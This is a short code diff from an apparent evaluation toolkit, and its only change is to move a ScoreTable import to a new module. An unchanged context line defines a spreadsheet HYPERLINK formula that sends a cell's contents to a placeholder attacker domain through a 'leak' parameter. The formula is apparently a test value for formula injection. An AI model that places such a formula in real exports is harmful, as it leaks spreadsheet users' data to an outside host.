@@ -17,7 +17,7 @@ from sweep.judging.records import AnswerTrace
 from sweep.judging.replies import Verdict
 from sweep.judging.summary import summarize_answers
 from sweep.reporting.frames import write_results
-from sweep.scoring.credit import ScoreTable
+from sweep.scoring.table import ScoreTable
 from sweep.store.traces import Retrieved
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
